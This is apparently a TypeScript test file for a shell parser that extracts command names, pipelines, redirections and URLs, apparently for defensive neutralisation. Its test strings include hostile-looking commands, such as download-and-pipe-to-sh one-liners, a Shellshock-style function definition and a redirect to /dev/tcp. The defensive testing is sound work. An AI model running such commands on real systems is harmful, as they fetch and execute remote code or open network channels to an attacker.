import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { shellFacts } from '../../src/neutralize/shell.ts'
import { fc } from '../support/property.ts'

describe('names of commands', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['cd /tmp || cd /var; wget -q http://a.example | sh', ['cd', 'cd', 'wget', 'sh']],
    ['/bin/busybox wget http://a.example', ['busybox', 'wget']],
    ['sudo -u root nohup env A=b timeout -k 5 10 ./x &', ['sudo', 'nohup', 'env', 'timeout', 'x']],
    ['ls | xargs -n 1 -I {} rm {}', ['ls', 'xargs', 'rm']],
    ['A=1 B="2 3" exec time curl x', ['exec', 'time', 'curl']],
    ['if [ -f x ]; then rm x; else ls; fi', ['[', 'rm', 'ls']],
    ['for i in a b; do wget $i; done', ['wget']],
    ['while read l; do echo $l; done < f', ['read', 'echo']],
    ['echo $(curl `which x`) "$(id)"', ['echo', 'curl', 'which', 'id']],
    ['(a; b) | { c; d; }', ['a', 'b', 'c', 'd']],
    ['f() { ls; }; f', ['ls', 'f']],
    ['() { :;}; /bin/bash -c "id"', [':', 'bash']],
    ['cat <<EOF | sh\nwget x\nEOF\nuname', ['cat', 'sh', 'uname']],
    ['a # b; c\nd', ['a', 'd']],
    ['echo "a; b | c" \'d; e\' f\\;g', ['echo']],
    ['w"g"\'e\'t x', ['wget']],
    ['a&b&&c', ['a', 'b', 'c']],
    ['echo $((1+2))', ['echo']],
    ['diff <(ls) <(ps)', ['diff', 'ls', 'ps']],
    ['', []],
  ]
  for (const [text, names] of cases)
    test(`${JSON.stringify(text)} runs ${names.join(', ') || 'nothing'}`, () => {
      assert.deepEqual(shellFacts(text).commands, names)
    })

  test('stand in one list for each pipeline', () => {
    assert.deepEqual(shellFacts('a | b && c |& d; e').pipelines, [['a', 'b'], ['c', 'd'], ['e']])
  })
})

test('redirections tell where they write and whether they append', () => {
  assert.deepEqual(
    shellFacts('a > x 2>> "y z" 2>&1 &> w >| v < in >/dev/tcp/192.0.2.1/4').redirects,
    [
      { target: 'x', append: false },
      { target: 'y z', append: true },
      { target: 'w', append: false },
      { target: 'v', append: false },
      { target: '/dev/tcp/192.0.2.1/4', append: false },
    ],
  )
})

test('URLs are found in words, quotes and substitutions, each once', () => {
  const text = 'wget "http://a.example/x?y=1&z" -O- http://b.example; $(curl ftp://c.example)'
  assert.deepEqual(shellFacts(text).urls, [
    'http://a.example/x?y=1&z',
    'http://b.example',
    'ftp://c.example',
  ])
})

test('more than is read is said to be cut', () => {
  assert.equal(shellFacts('a;'.repeat(40_000)).isCut, true)
  assert.equal(shellFacts('$('.repeat(100)).isCut, true)
  assert.equal(shellFacts('a;'.repeat(400)).isCut, false)
})

test('no text makes it throw', () => {
  const piece = fc.constantFrom(
    ...['$(', ')', '`', '"', "'", '${', '}', '{', '(', '|', ';', '&', '<<', '<<<', '<(', '>', '\n'],
    ...['\\', '#', ' ', 'a', 'EOF', 'if ', 'do ', 'case ', '1>', '$((', "$'", 'sudo ', 'a=b '],
  )
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.array(piece, { maxLength: 80 }).map((p) => p.join('')),
      ),
      (text) => {
        assert.deepEqual(shellFacts(text), shellFacts(text))
      },
    ),
    { numRuns: 3_000 },
  )
})
